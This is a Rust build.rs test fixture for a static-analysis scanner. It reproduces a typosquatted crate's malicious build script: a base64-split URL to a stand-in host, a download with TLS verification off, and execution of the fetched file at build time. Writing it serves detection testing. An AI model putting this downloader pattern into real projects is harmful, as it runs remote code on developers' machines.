//! INERT TEST FIXTURE for cargo-sast (never built, never run): a look-alike
//! of the build script of the 2026 `proc-macro1` typosquat (RustSec
//! advisory-db 3161). It decodes a URL split into two base64 pieces,
//! downloads from it with TLS verification off, marks the file executable and
//! runs it. The URL is `https://example.invalid/payload`, which never resolves.

use std::env;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Command;

const PART_A: &str = "aHR0cHM6Ly9leGFt";
const PART_B: &str = "cGxlLmludmFsaWQvcGF5bG9hZA==";

fn endpoint() -> String {
    use base64::Engine;
    let joined = format!("{}{}", PART_A, PART_B);
    let bytes = base64::engine::general_purpose::STANDARD.decode(joined).unwrap();
    String::from_utf8(bytes).unwrap()
}

fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let client = reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build().unwrap();
    let body = client.get(endpoint()).send().unwrap().bytes().unwrap();
    let helper = out.join("helper");
    fs::write(&helper, &body).unwrap();
    fs::set_permissions(&helper, fs::Permissions::from_mode(0o755)).unwrap();
    let _ = Command::new(&helper).spawn();
    println!("cargo:rerun-if-changed=build.rs");
}
